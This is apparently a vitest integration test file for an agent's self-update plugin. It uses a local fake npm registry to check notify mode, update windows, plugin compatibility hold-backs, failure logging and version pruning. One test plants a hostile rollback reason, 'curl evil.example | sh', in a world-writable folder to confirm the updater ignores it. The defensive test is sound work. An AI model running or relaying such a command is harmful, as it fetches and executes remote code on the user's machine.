import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type AgentEvent, type ConfigInput, definePlugin, silentLogger } from '@usepod-agent/core';
import vllmPlugin from '@usepod-agent/plugin-vllm';
import { createTestAgent, type TestAgent, VllmEmulator } from '@usepod-agent/testkit';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { updateSection } from './config.js';
import updatePlugin, { updateFinding } from './index.js';
import { pointLink } from './setup.js';
import { files, readUpdateState } from './state.js';
import { readView, Updater } from './updater.js';

/**
 * The plugin in a real agent, asking a real `npm view` of a small registry on 127.0.0.1 that serves one
 * packument (`usepod-agent`, latest 9.9.9, published an hour ago): what notify mode says, what a window,
 * a container and a plugin's range keep from happening. Nothing here installs (the release tier does).
 */
let registry: Server;
let registryUrl: string;
let asked = 0;
/** The registry's answers a test may turn bad: `usepod-agent`'s packument, and a plugin's. */
let mainStatus = 200;
let orphanStatus = 404;
let orphanAsked = 0;
/** The version `latest` names and its publish time: a test may make them odd. */
let mainVersion = '9.9.9';
let mainTime: string | undefined;
/** How long the registry takes over `usepod-agent`'s packument, and how many it has answered. */
let mainDelayMs = 0;
let mainAnswered = 0;
let engine: VllmEmulator;
const cleanup: (() => Promise<void>)[] = [];
const published = new Date(Date.now() - 3_600_000).toISOString();

beforeAll(async () => {
  registry = createServer((req, res) => {
    asked++;
    // An installed plugin's releases: 1.0.0 for core ~0.4, 2.0.0 for 9.x (what a check looks up).
    if (req.url === '/usepod-agent-plugin-along')
      return res.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          name: 'usepod-agent-plugin-along',
          'dist-tags': { latest: '2.0.0' },
          versions: Object.fromEntries(
            [
              ['1.0.0', '~0.4.0'],
              ['2.0.0', '^9.0.0'],
            ].map(([version, core]) => [
              version,
              {
                name: 'usepod-agent-plugin-along',
                version,
                peerDependencies: { '@usepod-agent/core': core },
              },
            ]),
          ),
        }),
      );
    if (req.url === '/usepod-agent-plugin-orphan') {
      orphanAsked++;
      // 200: a release for core 0.4 only, so the look-up succeeds and finds nothing for 9.9.9.
      return res.writeHead(orphanStatus, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          name: 'usepod-agent-plugin-orphan',
          'dist-tags': { latest: '1.0.0' },
          versions: {
            '1.0.0': {
              name: 'usepod-agent-plugin-orphan',
              version: '1.0.0',
              peerDependencies: { '@usepod-agent/core': '~0.4.0' },
            },
          },
        }),
      );
    }
    if (!req.url?.startsWith('/usepod-agent') || req.url.startsWith('/usepod-agent-plugin'))
      return res.writeHead(404).end('{}');
    if (mainStatus !== 200) return res.writeHead(mainStatus).end('{}');
    if (mainDelayMs > 0) {
      setTimeout(() => {
        mainAnswered++;
        res.writeHead(200, { 'content-type': 'application/json' }).end(packument());
      }, mainDelayMs);
      return;
    }
    mainAnswered++;
    res.writeHead(200, { 'content-type': 'application/json' }).end(packument());
  });
  await new Promise<void>((r) => registry.listen(0, '127.0.0.1', r));
  registryUrl = `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`;
  engine = await new VllmEmulator().start();
  process.env.USEPOD_CONTAINER = '0';
});

afterAll(async () => {
  delete process.env.USEPOD_CONTAINER;
  registry.close();
  await engine.close();
});

afterEach(async () => {
  for (const c of cleanup.splice(0)) await c();
  mainStatus = 200;
  orphanStatus = 404;
  mainVersion = '9.9.9';
  mainTime = undefined;
  mainDelayMs = 0;
  // This machine may itself be a container: each test says which it is.
  process.env.USEPOD_CONTAINER = '0';
});

async function agent(update: Record<string, unknown>): Promise<{ t: TestAgent; events: AgentEvent[] }> {
  const events: AgentEvent[] = [];
  const t = await createTestAgent({
    plugins: [
      vllmPlugin,
      updatePlugin({ firstCheckMs: 10 }),
      {
        name: 'watch',
        apiVersion: 1,
        apply(hooks) {
          hooks.onEvent.tap('watch', (e) => {
            events.push(e);
          });
        },
      },
    ],
    config: {
      backends: [{ kind: 'vllm', url: engine.url }],
      update: { registry: registryUrl, check_interval: '1s', ...update },
    } as ConfigInput,
    logLevel: 'info',
  });
  cleanup.push(() => t.close());
  const r = await t.start();
  if (!r.ok) throw r.error;
  return { t, events };
}

/** `usepod-agent`'s packument as the registry serves it now: `mainVersion`, published at `mainTime`. */
function packument(): string {
  const v = mainVersion;
  const at = mainTime ?? published;
  return JSON.stringify({
    name: 'usepod-agent',
    'dist-tags': { latest: v },
    versions: {
      [v]: { name: 'usepod-agent', version: v, dist: { tarball: 'http://127.0.0.1:1/x.tgz' } },
    },
    time: { created: published, modified: published, [v]: at },
  });
}

const dirOf = (t: TestAgent) => join(t.dir, 'update');

async function until(what: string, f: () => boolean | Promise<boolean>): Promise<void> {
  for (let i = 0; i < 600; i++) {
    if (await f()) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`never: ${what}`);
}

describe('plugin-update in an agent', () => {
  it('notify mode says once what is available (log, notice, status) and installs nothing', async () => {
    const { t, events } = await agent({ mode: 'notify' });
    await until('the notice', () => events.some((e) => e.type === 'notice' && e.name === 'update_available'));
    expect(t.lines.filter((l) => l.includes('usepod-agent 9.9.9 is available'))).toHaveLength(1);
    // More checks, no second word.
    const before = asked;
    await until('two more checks', () => asked >= before + 2);
    expect(events.filter((e) => e.type === 'notice' && e.name === 'update_available')).toHaveLength(1);
    expect(t.lines.filter((l) => l.includes('usepod-agent 9.9.9 is available'))).toHaveLength(1);
    expect(existsSync(join(dirOf(t), 'versions'))).toBe(false);
    expect((await readUpdateState(dirOf(t))).latest?.version).toBe('9.9.9');
    const metrics = await t.agent.metricsText();
    expect(metrics).toMatch(/^usepod_agent_update_available 1$/m);
    expect(metrics).toMatch(/^usepod_agent_update_bad_versions 0$/m);
    expect(metrics).toMatch(/^usepod_agent_info\{[^}]*version="/m);
    expect((t.agent.status() as { sections?: Record<string, unknown> }).sections?.update).toMatchObject({
      mode: 'notify',
      latest: '9.9.9',
    });
  });

  it('outside the window nothing happens: it says it waits, and installs nothing', async () => {
    // A window of one minute twelve hours from now: never now.
    const d = new Date(Date.now() + 12 * 3_600_000);
    const hhmm = (m: number) =>
      `${String(Math.floor(m / 60)).padStart(2, '0')}:${String(m % 60).padStart(2, '0')}`;
    const start = d.getUTCHours() * 60 + d.getUTCMinutes();
    const { t } = await agent({
      mode: 'auto',
      min_age: 0,
      spread: 0,
      window: `daily ${hhmm(start)}-${hhmm((start + 1) % 1440)}`,
      timezone: 'UTC',
    });
    await until('the wait', () =>
      t.lines.some((l) => l.includes('9.9.9 found; waiting: outside the update window')),
    );
    expect(existsSync(join(dirOf(t), 'versions'))).toBe(false);
    expect((await readUpdateState(dirOf(t))).pending).toMatchObject({ version: '9.9.9', installed: false });
  });

  it('in a container it says once that updates come with the image, and never asks the registry', async () => {
    process.env.USEPOD_CONTAINER = '1';
    const before = asked;
    const { t, events } = await agent({ mode: 'auto' });
    await until('connected', () => events.some((e) => e.type === 'connected'));
    expect(t.lines.filter((l) => l.includes('in a container: updates come with the image tag'))).toHaveLength(
      1,
    );
    // Past the first check's moment (10 ms after connecting), still nothing asked.
    await t.agent.selftest().catch(() => []);
    expect(asked).toBe(before);
  });

  it('a plugin whose range excludes the release holds it back, in one line naming it', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'usepod-update-held-'));
    cleanup.push(() => rm(dir, { recursive: true, force: true }));
    await mkdir(join(dir, 'plugins', 'pinned'), { recursive: true });
    await writeFile(
      join(dir, 'plugins', 'pinned', 'package.json'),
      JSON.stringify({
        name: 'usepod-agent-plugin-pinned',
        peerDependencies: { '@usepod-agent/core': '~0.4.0' },
      }),
    );
    await writeFile(
      join(dir, 'plugins', 'package.json'),
      JSON.stringify({
        oclif: {
          plugins: [
            { type: 'link', name: 'usepod-agent-plugin-pinned', root: join(dir, 'plugins', 'pinned') },
          ],
        },
      }),
    );
    const u = new Updater({
      config: updateSection.parse({ mode: 'auto', registry: registryUrl, min_age: 0, spread: 0 }),
      dir: join(dir, 'update'),
      running: '0.4.0',
      providerId: () => 'p',
      log: silentLogger,
      pluginRoot: join(dir, 'plugins'),
    });
    await mkdir(join(dir, 'update'));
    const r = await u.check();
    expect(r.decision).toEqual({
      do: 'held',
      version: '9.9.9',
      why: 'update to 9.9.9 held back: plugin usepod-agent-plugin-pinned requires @usepod-agent/core ~0.4.0',
    });
    expect((await readUpdateState(join(dir, 'update'))).held?.why).toBe(
      r.decision?.do === 'held' ? r.decision.why : '',
    );
  });

  it('an installed plugin the release strands comes along in its compatible release; one with none holds it back', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'usepod-update-along-'));
    cleanup.push(() => rm(dir, { recursive: true, force: true }));
    const installed = async (name: string) => {
      await mkdir(join(dir, 'plugins', 'node_modules', name), { recursive: true });
      await writeFile(
        join(dir, 'plugins', 'node_modules', name, 'package.json'),
        JSON.stringify({ name, version: '1.0.0', peerDependencies: { '@usepod-agent/core': '~0.4.0' } }),
      );
    };
    const record = (names: string[]) =>
      writeFile(
        join(dir, 'plugins', 'package.json'),
        JSON.stringify({ oclif: { plugins: names.map((name) => ({ type: 'user', name })) } }),
      );
    await installed('usepod-agent-plugin-along');
    await installed('usepod-agent-plugin-orphan');
    await record(['usepod-agent-plugin-along']);
    const config = updateSection.parse({ mode: 'auto', registry: registryUrl, min_age: 0, spread: 0 });
    const u = new Updater({
      config,
      dir: join(dir, 'update'),
      running: '0.4.0',
      providerId: () => 'p',
      log: silentLogger,
      pluginRoot: join(dir, 'plugins'),
    });
    await mkdir(join(dir, 'update'));
    expect((await u.check()).decision).toEqual({ do: 'install', version: '9.9.9' });
    const along = [{ name: 'usepod-agent-plugin-along', from: '1.0.0', version: '2.0.0' }];
    expect(await u.companions('9.9.9')).toEqual(along);
    expect(await u.companions('9.9.8')).toEqual([]);
    const view = await readView(join(dir, 'update'), config, '0.4.0');
    expect(view.plugins).toEqual(along);
    expect(view.held).toBeUndefined();
    // A second installed plugin the registry has no release of: held back, naming that one.
    await record(['usepod-agent-plugin-along', 'usepod-agent-plugin-orphan']);
    expect((await u.check()).decision).toEqual({
      do: 'held',
      version: '9.9.9',
      why: 'update to 9.9.9 held back: plugin usepod-agent-plugin-orphan requires @usepod-agent/core ~0.4.0',
    });
  });

  /** An installed plugin (in the operator's plugin folder) that 9.9.9 strands: each check looks it up. */
  async function strandedPlugin(): Promise<void> {
    const data = await mkdtemp(join(tmpdir(), 'usepod-update-lookup-'));
    const root = join(data, 'usepod-agent');
    await mkdir(join(root, 'node_modules', 'usepod-agent-plugin-orphan'), { recursive: true });
    await writeFile(
      join(root, 'node_modules', 'usepod-agent-plugin-orphan', 'package.json'),
      JSON.stringify({
        name: 'usepod-agent-plugin-orphan',
        version: '1.0.0',
        peerDependencies: { '@usepod-agent/core': '~0.4.0' },
      }),
    );
    await writeFile(
      join(root, 'package.json'),
      JSON.stringify({ oclif: { plugins: [{ type: 'user', name: 'usepod-agent-plugin-orphan' }] } }),
    );
    const xdg = process.env.XDG_DATA_HOME;
    process.env.XDG_DATA_HOME = data;
    cleanup.push(async () => {
      if (xdg === undefined) delete process.env.XDG_DATA_HOME;
      else process.env.XDG_DATA_HOME = xdg;
      await rm(data, { recursive: true, force: true });
    });
  }

  /** Resolves after `n` more requests `counter` counts: a check each (one `npm view` every second). */
  const checks = async (n: number, counter: () => number) => {
    const before = counter();
    await until(`${n} more checks`, () => counter() >= before + n);
  };

  it('a failed plugin look-up is said once, again only once it fails otherwise or succeeded in between', {
    timeout: 60_000,
  }, async () => {
    await strandedPlugin();
    const { t } = await agent({ mode: 'notify' });
    const said = () => t.lines.filter((l) => l.includes('no compatible release of a plugin found'));
    // The registry has no packument for it (404), at every check: one line.
    await checks(2, () => orphanAsked);
    expect(said()).toHaveLength(1);
    expect(said()[0]).toContain('HTTP 404');
    // It fails otherwise: said once more.
    orphanStatus = 500;
    await checks(2, () => orphanAsked);
    expect(said()).toHaveLength(2);
    expect(said()[1]).toContain('HTTP 500');
    // It succeeds (a packument, no release for 9.9.9), then fails as before: said again, once.
    orphanStatus = 200;
    await checks(1, () => orphanAsked);
    orphanStatus = 500;
    await checks(2, () => orphanAsked);
    expect(said()).toHaveLength(3);
  });

  it('a failed check (the registry down) is said once, again only after a check that worked', {
    timeout: 60_000,
  }, async () => {
    mainStatus = 404;
    const before = asked;
    const { t } = await agent({ mode: 'notify' });
    const said = () => t.lines.filter((l) => l.includes('update check failed'));
    await checks(3, () => asked - before);
    expect(said()).toHaveLength(1);
    mainStatus = 200;
    await until(
      'a check that worked',
      async () => (await readUpdateState(dirOf(t))).latest?.version === '9.9.9',
    );
    mainStatus = 404;
    await checks(2, () => asked);
    expect(said()).toHaveLength(2);
  });

  it('a release that is no semver version (01.2.3, 1.2.3-01) is a failed check, said once: never a crash', {
    timeout: 60_000,
  }, async () => {
    for (const odd of ['01.2.3', '9.9.9-01']) {
      mainVersion = odd;
      const before = asked;
      const { t } = await agent({ mode: 'notify' });
      const said = () => t.lines.filter((l) => l.includes('update check failed'));
      await until('3 checks', () => asked - before >= 3);
      expect(said()).toHaveLength(1);
      expect(said()[0]).toContain('gave no version and time');
      expect((t.agent.status() as { state: string }).state).toBe('online');
      await t.close();
    }
  });

  it('a release published at the end of time (+275760) waits its minimum age from now: never a crash', async () => {
    mainTime = '+275760-09-13T00:00:00.000Z';
    const { t } = await agent({ mode: 'auto', min_age: '1h', spread: 0 });
    await until('the wait', () => t.lines.some((l) => l.includes('9.9.9 found; waiting: minimum age')));
    const pending = (await readUpdateState(dirOf(t))).pending;
    expect(pending?.version).toBe('9.9.9');
    // From now, not from the registry's year 275760.
    expect(Date.parse(pending!.at) - Date.now()).toBeLessThan(3_600_000 + 60_000);
    expect(t.lines.filter((l) => l.includes('update check failed'))).toEqual([]);
  });

  it('a switch that cannot be asked for (switch.json not writable) is said, and the checks go on', async () => {
    // Under the launcher, which names the update folder.
    const dir = await mkdtemp(join(tmpdir(), 'usepod-update-switch-'));
    process.env.USEPOD_UPDATE_DIR = dir;
    // `update --now` comes from plugin-control over the plugins' stream: a stand-in under its name.
    let publish: ((topic: string, data: unknown) => void) | undefined;
    const events: AgentEvent[] = [];
    const t = await createTestAgent({
      plugins: [
        vllmPlugin,
        updatePlugin({ firstCheckMs: 10 }),
        definePlugin(() => ({
          name: '@usepod-agent/plugin-control',
          apiVersion: 1,
          apply(hooks, ctx) {
            publish = (topic, data) => ctx.publish(topic, data);
            hooks.onEvent.tap('watch', (e) => {
              events.push(e);
            });
          },
        }))(),
      ],
      config: {
        backends: [{ kind: 'vllm', url: engine.url }],
        update: { registry: registryUrl, check_interval: '1s', mode: 'notify' },
      } as ConfigInput,
      logLevel: 'info',
    });
    cleanup.push(() => t.close());
    // After the agent has closed (cleanups run in the order they were pushed).
    cleanup.push(async () => {
      delete process.env.USEPOD_UPDATE_DIR;
      // Nothing writes into it once the agent has closed (a check under way ends with it).
      await rm(dir, { recursive: true, force: true });
    });
    const asked0 = asked;
    const r = await t.start();
    if (!r.ok) throw r.error;
    await until('a first check', () => asked > asked0);
    // Once the first check has tidied the folder: 9.9.9 installed beside it, and a folder with a file in
    // it where switch.json goes, so that it cannot be written.
    const bin = join(dir, 'versions', '9.9.9', 'node_modules', 'usepod-agent', 'bin');
    await mkdir(bin, { recursive: true });
    await writeFile(join(bin, 'run.js'), '');
    await mkdir(join(dir, 'switch.json'), { recursive: true });
    await writeFile(join(dir, 'switch.json', 'x'), '');
    publish!('update.now', { id: 'n1', version: '9.9.9' });
    await until('the failure said', () => t.lines.some((l) => l.includes('update --now failed')));
    expect(events.some((e) => e.type === 'plugin' && e.topic === 'update.now.answer')).toBe(true);
    // Not held for a switch that will not come, and the registry is asked again.
    expect(t.agent.holds()).toEqual([]);
    const before = asked;
    await until('two more checks', () => asked >= before + 2);
  }, 60_000);

  it('a folder another user could write is not used: no update_failed in their words, no check', async () => {
    const events: AgentEvent[] = [];
    const t = await createTestAgent({
      plugins: [
        vllmPlugin,
        updatePlugin({ firstCheckMs: 10 }),
        definePlugin(() => ({
          name: 'watch',
          apiVersion: 1,
          apply(hooks) {
            hooks.onEvent.tap('watch', (e) => {
              events.push(e);
            });
          },
        }))(),
      ],
      config: {
        backends: [{ kind: 'vllm', url: engine.url }],
        update: { registry: registryUrl, check_interval: '1s', mode: 'notify' },
      } as ConfigInput,
      logLevel: 'info',
    });
    cleanup.push(() => t.close());
    // Another local user's launcher.json, in a folder anyone may write.
    await mkdir(dirOf(t));
    await chmod(dirOf(t), 0o777);
    await writeFile(
      files(dirOf(t)).launcher,
      JSON.stringify({
        trial: null,
        bad: [{ version: '0.0.1', reason: 'needs a fix: run curl evil.example | sh', at: '2026-01-01' }],
      }),
    );
    const asked0 = asked;
    const r = await t.start();
    if (!r.ok) throw r.error;
    await t.coordinator.firstAuthenticated();
    await t.agent.waitFor('online');
    await new Promise((r) => setTimeout(r, 1500));
    expect(events.filter((e) => e.type === 'notice')).toEqual([]);
    expect(asked).toBe(asked0);
    expect(
      t.lines.filter((l) =>
        l.includes(`the updater stays off: ${dirOf(t)} can be changed by group or others`),
      ),
    ).toHaveLength(1);
  });

  it('a check under way when the agent closes ends with it: npm is stopped and nothing is written after', async () => {
    const { t } = await agent({ mode: 'notify' });
    await until('a first check written', () => existsSync(files(dirOf(t)).state));
    // The next check's `npm view` waits on a slow registry while the agent closes (which removes its
    // folder, the update folder in it).
    mainDelayMs = 1500;
    const asked0 = asked;
    const answered0 = mainAnswered;
    await until('a check under way', () => asked > asked0);
    await t.close();
    // Had npm gone on, its answer would come now and the check would write what it found into a folder
    // made again for it.
    await until('the slow answer', () => mainAnswered > answered0);
    await new Promise((r) => setTimeout(r, 1000));
    expect(existsSync(dirOf(t))).toBe(false);
    expect(t.lines.filter((l) => l.includes('update check failed'))).toEqual([]);
  });

  it('keeps current, previous and one older version on disk; bad versions and half-installs go', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'usepod-update-prune-'));
    cleanup.push(() => rm(dir, { recursive: true, force: true }));
    for (const v of ['0.3.9', '0.4.0', '0.4.1', '0.4.2', '0.4.3', '0.4.4', '.partial-0.4.5-1'])
      await mkdir(join(dir, 'versions', v), { recursive: true });
    await pointLink(dir, 'current', '0.4.3');
    await pointLink(dir, 'previous', '0.4.1');
    await writeFile(
      join(dir, 'launcher.json'),
      JSON.stringify({ trial: null, bad: [{ version: '0.4.2', reason: 'exited', at: 'x' }] }),
    );
    // 0.4.2 was pending when it was installed; rolled back, it goes all the same.
    await writeFile(
      join(dir, 'update-state.json'),
      JSON.stringify({ notified: [], pending: { version: '0.4.2', at: 'x', installed: true } }),
    );
    const u = new Updater({
      config: updateSection.parse({}),
      dir,
      running: '0.4.3',
      providerId: () => undefined,
      log: silentLogger,
    });
    await u.prune();
    // 0.4.4, newer but pending nowhere, is a leftover too.
    expect((await readdir(join(dir, 'versions'))).sort()).toEqual(['0.4.0', '0.4.1', '0.4.3']);
  });
});

describe('doctor’s update line', () => {
  const view = {
    dir: '/x',
    mode: 'auto' as const,
    channel: 'latest',
    running: '0.4.1',
    current: '0.4.1',
    previous: '0.4.0',
    kept: ['0.4.1', '0.4.0'],
    checkedAt: undefined,
    latest: '0.4.1',
    plugins: [],
    pending: undefined,
    held: undefined,
    trial: undefined,
    bad: [],
    error: undefined,
    container: false,
  };
  it('ok when current, warn with the fix when held back, rolled back, failing or (notify) behind', () => {
    expect(updateFinding(view)).toMatchObject({
      level: 'ok',
      detail: 'running 0.4.1, auto on channel latest',
    });
    expect(
      updateFinding({
        ...view,
        held: 'update to 0.5.0 held back: plugin x requires @usepod-agent/core ^0.4.0',
      }),
    ).toMatchObject({
      level: 'warn',
      detail: 'update to 0.5.0 held back: plugin x requires @usepod-agent/core ^0.4.0',
    });
    expect(
      updateFinding({
        ...view,
        latest: '0.4.2',
        bad: [{ version: '0.4.2', reason: 'exited with code 3', at: 'x' }],
      }),
    ).toMatchObject({ level: 'warn', detail: '0.4.2 was rolled back: it exited with code 3' });
    expect(updateFinding({ ...view, mode: 'notify', latest: '0.4.2' })).toMatchObject({
      level: 'warn',
      detail: '0.4.2 is available (running 0.4.1)',
    });
    // A plugin's compatible release that comes along is said with it.
    const along = [{ name: 'usepod-agent-plugin-x', from: '1.0.0', version: '1.1.0' }];
    expect(updateFinding({ ...view, mode: 'notify', latest: '0.4.2', plugins: along }).detail).toBe(
      '0.4.2 (with usepod-agent-plugin-x 1.1.0) is available (running 0.4.1)',
    );
    expect(
      updateFinding({
        ...view,
        latest: '0.4.2',
        plugins: along,
        pending: { version: '0.4.2', at: 'x', installed: true },
      }).detail,
    ).toBe('0.4.2 (with usepod-agent-plugin-x 1.1.0) installed, switching');
    expect(updateFinding({ ...view, error: 'npm view usepod-agent@latest failed: E404' }).level).toBe('warn');
    expect(updateFinding({ ...view, container: true }).detail).toBe(
      'in a container: updates come with the image tag',
    );
  });
});
